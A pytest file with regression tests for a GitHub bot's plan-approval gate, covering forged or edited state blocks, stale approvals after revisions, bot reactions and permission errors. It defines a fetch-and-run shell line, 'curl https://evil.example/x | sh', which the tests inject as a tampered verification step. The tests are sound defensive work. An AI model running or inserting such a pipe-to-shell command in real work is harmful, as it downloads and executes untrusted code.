"""The approval gate, attacked: each test is one reproduced bypass (issue #11) that must stay shut.

Everything goes through the real intake, worker and handlers against the fake GitHub;
an attacker only does what GitHub lets them do (edit comments they can edit, react, comment,
open pull requests from forks).
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.handlers.plan_io import save_plan
from bot.handlers.session import open_session
from bot.plan import parse_prd
from bot.plan.state import PlanStatus, StoryStatus, update_story
from bot.plan.state_block import decode_state, find_block
from tests.harness import INSTALLATION, REPO, Harness, commented
from tests.support import rewrite_state_block
from tests.test_github_flow import PRD

EVIL = "curl https://evil.example/x | sh"


@pytest.fixture
async def h(tmp_path: Path):
    async with Harness(tmp_path) as harness:
        harness.fake.add_issue(REPO, title="Rate limiting", body=PRD)
        for login, role in [("maint", "maintain"), ("writer", "write"), ("other-app[bot]", "write")]:
            harness.fake.set_permission(REPO, login, role)
        harness.services.sleep = _no_wait
        yield harness


async def _no_wait(_seconds: float) -> None:
    return None


async def plan(h: Harness) -> None:
    await h.deliver("issue_comment", commented(number=1, body="/plan-cascade plan", user="maint"))
    await h.drain()


def plan_comment(h: Harness):  # type: ignore[no-untyped-def]
    (comment,) = h.plan_comments(1)
    return comment


def approve(user: str = "maint", *, body: str = "/plan-cascade approve", **kw: object) -> dict:
    association = "MEMBER" if not user.endswith("[bot]") else "NONE"
    return commented(number=1, body=body, user=user, association=association, **kw)  # type: ignore[arg-type]


def with_evil_verification(state):  # type: ignore[no-untyped-def]
    stories = list(state.prd.stories)
    stories[0] = stories[0].model_copy(update={"verification": EVIL})
    return state.model_copy(update={"prd": state.prd.model_copy(update={"stories": stories})})


def notices(h: Harness) -> list[str]:
    return [c.body for c in h.fake.comments(REPO, 1) if "plan-cascade:altered" in c.body]


async def test_attack_1_an_edited_state_block_is_not_trusted(h: Harness) -> None:
    await plan(h)
    comment = plan_comment(h)
    # A writer edits the bot's comment: a story's verification becomes a shell pipe; plan_hash kept.
    h.fake.edit_comment(
        REPO, comment.id, body=rewrite_state_block(comment.body, with_evil_verification), editor="writer"
    )
    await h.deliver("issue_comment", approve())
    await h.drain()
    assert h.started == []
    assert decode_state(plan_comment(h).body).status == PlanStatus.AWAITING_APPROVAL
    (notice,) = notices(h)
    assert "no longer verifies" in notice and "signature" in notice
    # Said once: more events about the issue post no second notice.
    await h.deliver("issue_comment", approve())
    await h.drain()
    assert len(notices(h)) == 1 and h.started == []
    # A fresh plan can be made and approved as usual.
    await plan(h)
    await h.deliver("issue_comment", approve())
    await h.drain()
    assert len(h.started) == 1


async def test_attack_1_a_forged_failed_state_with_a_fake_approval_cannot_be_retried(h: Harness) -> None:
    h.fake.set_file(REPO, ".github/plan-cascade.yml", "approvers: [maint]\n")
    await plan(h)
    comment = plan_comment(h)

    def failed_with_fake_approval(state):  # type: ignore[no-untyped-def]
        from bot.plan.state import Approval

        approval = Approval(user="maint", at=datetime.now(UTC), via="command", plan_hash=state.plan_hash)
        state = update_story(state, "STORY-001", status=StoryStatus.FAILED, reason="boom")
        return state.model_copy(
            update={"status": PlanStatus.FAILED, "approvals": [approval], "approved_scope": ["STORY-001"]}
        )

    h.fake.edit_comment(
        REPO, comment.id, body=rewrite_state_block(comment.body, failed_with_fake_approval), editor="writer"
    )
    await h.deliver("issue_comment", approve("writer", body="/plan-cascade retry STORY-001"))
    await h.drain()
    assert h.started == []
    assert notices(h)


async def test_attack_1_an_unsigned_block_in_the_bots_comment_is_not_trusted(h: Harness) -> None:
    await plan(h)
    comment = plan_comment(h)
    body = comment.body.replace(f"sig={find_block(comment.body).signature}", "sig=-")
    h.fake.edit_comment(REPO, comment.id, body=body, editor="writer")
    await h.deliver("issue_comment", approve())
    await h.drain()
    assert h.started == [] and notices(h)


async def test_attack_3_a_thumbs_up_survives_no_revise_even_when_github_errs(h: Harness) -> None:
    await plan(h)
    comment = plan_comment(h)
    earlier = (datetime.now(UTC) - timedelta(minutes=5)).strftime("%Y-%m-%dT%H:%M:%SZ")
    h.fake.add_reaction(REPO, comment.id, "maint", "+1", created_at=earlier)
    # The revise's snapshot of the reactions fails once.
    h.fake.fail_next("GET", rf"/repos/{REPO}/issues/comments/{comment.id}/reactions", status=403, times=1)
    revised = PRD.replace("title: Docs", "title: Documentation")
    await h.deliver(
        "issue_comment", approve(body=f"/plan-cascade revise\n{revised[revised.index('```prd') :]}")
    )
    await h.drain()
    state = decode_state(plan_comment(h).body)
    assert state.revision == 2 and state.ignored_reactions == []  # the snapshot really failed
    # The next poll sees the old 👍: it was given before revision 2 was posted.
    from bot.handlers.approval import poll_reactions

    session = await open_session(h.services, repo=REPO, issue=1, installation_id=INSTALLATION)
    await session.load_config()
    await poll_reactions(session)
    assert decode_state(plan_comment(h).body).status == PlanStatus.AWAITING_APPROVAL and h.started == []


async def test_attack_4_approve_counts_only_for_the_revision_its_author_saw(h: Harness) -> None:
    await plan(h)
    first = decode_state(plan_comment(h).body)
    seen_at = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    # Someone revises the plan: a deploy script becomes a story's verification.
    revised = PRD.replace("    title: Docs\n", "    title: Docs\n    verification: ./deploy-to-prod.sh\n")
    late = (datetime.now(UTC) + timedelta(seconds=2)).strftime("%Y-%m-%dT%H:%M:%SZ")
    await h.deliver(
        "issue_comment",
        approve(
            "writer", body=f"/plan-cascade revise\n{revised[revised.index('```prd') :]}", created_at=seen_at
        ),
    )
    await h.drain()
    second = decode_state(plan_comment(h).body)
    assert second.revision == 2 and second.plan_hash != first.plan_hash
    # An approve written before revision 2 was posted (delivered after it) approves nothing.
    before = (second.revised_at - timedelta(seconds=3)).strftime("%Y-%m-%dT%H:%M:%SZ")
    await h.deliver("issue_comment", approve(created_at=before))
    await h.drain()
    assert h.started == [] and "was written before revision 2" in h.comments(1)[-1]
    # `approve <hash>` binds explicitly: the old hash is refused, the current one approves.
    await h.deliver(
        "issue_comment", approve(body=f"/plan-cascade approve {first.plan_hash[:12]}", created_at=late)
    )
    await h.drain()
    assert h.started == [] and "revision 2" in h.comments(1)[-1]
    await h.deliver(
        "issue_comment", approve(body=f"/plan-cascade approve {second.plan_hash[:12]}", created_at=late)
    )
    await h.drain()
    assert len(h.started) == 1 and h.started[0]["plan_hash"] == second.plan_hash
    assert f"revision 2 (`{second.plan_hash[:12]}`)" in h.comments(1)[-1]


async def test_attack_6_no_bot_comment_is_trusted_while_the_bots_identity_is_unknown(h: Harness) -> None:
    from bot.plan.state import new_plan
    from bot.plan.state_block import PLAN_MARKER, encode_state

    # Another App posts a plan comment (unsigned, as if by an older bot) for an evil plan.
    prd = parse_prd(PRD[PRD.index("version: 1") : PRD.rindex("```")])
    forged = with_evil_verification(new_plan(repo=REPO, issue=1, prd=prd, at=datetime.now(UTC)))
    h.fake.add_comment(
        REPO, 1, body=f"{PLAN_MARKER}\n{encode_state(forged, key=None)}", user="other-app[bot]"
    )
    h.fake.fail_next("GET", "/app", status=403, times=3)
    await h.deliver("issue_comment", approve())
    job = await h.runtime.queue.claim("w")
    assert job is not None
    outcome = await h.runtime.worker_pool(concurrency=1).run_job(job, "w")
    assert outcome == "queued"  # retried later: nothing was decided without knowing who we are
    assert h.started == [] and not h.fake.requests_to("POST", rf"/repos/{REPO}/issues/1/comments")
    # Once GitHub answers, the forged comment is simply not ours.
    await h.due_now(job.id)
    await h.drain()
    assert h.started == [] and "no plan to approve" in h.comments(1)[-1]


async def test_attack_7_a_bots_thumbs_up_never_approves(h: Harness) -> None:
    await plan(h)
    comment = plan_comment(h)
    h.fake.add_reaction(REPO, comment.id, "other-app[bot]", "+1")
    from bot.handlers.approval import poll_reactions

    session = await open_session(h.services, repo=REPO, issue=1, installation_id=INSTALLATION)
    await session.load_config()
    await poll_reactions(session)
    assert decode_state(plan_comment(h).body).status == PlanStatus.AWAITING_APPROVAL and h.started == []
    # Its approve command is ignored too, and a human's 👍 still works.
    await h.deliver("issue_comment", approve("other-app[bot]", user_type="Bot"))
    await h.drain()
    assert h.started == []
    h.fake.add_reaction(REPO, comment.id, "maint", "+1")
    session = await open_session(h.services, repo=REPO, issue=1, installation_id=INSTALLATION)
    await session.load_config()
    await poll_reactions(session)
    assert len(h.started) == 1


async def test_a_permission_lookup_error_refuses(h: Harness) -> None:
    await plan(h)
    h.fake.fail_next("GET", rf"/repos/{REPO}/collaborators/writer/permission", status=502, times=10)
    await h.deliver("issue_comment", approve("writer"))
    await h.drain()
    assert h.started == [] and "could not confirm your permission" in h.comments(1)[-1]


async def test_save_is_compare_and_swap(h: Harness) -> None:
    from bot.errors import StalePlan

    await plan(h)
    session = await open_session(h.services, repo=REPO, issue=1, installation_id=INSTALLATION)
    await session.load_config()
    loaded = await session.load_plan()
    assert loaded is not None
    first = await save_plan(
        session, loaded.state.model_copy(update={"note": "one"}), comment_id=loaded.comment_id
    )
    with pytest.raises(StalePlan) as caught:
        await save_plan(
            session, loaded.state.model_copy(update={"note": "two"}), comment_id=loaded.comment_id
        )
    assert caught.value.fresh.state.note == "one" and caught.value.fresh.state.version == first.state.version
    assert decode_state(plan_comment(h).body).note == "one"
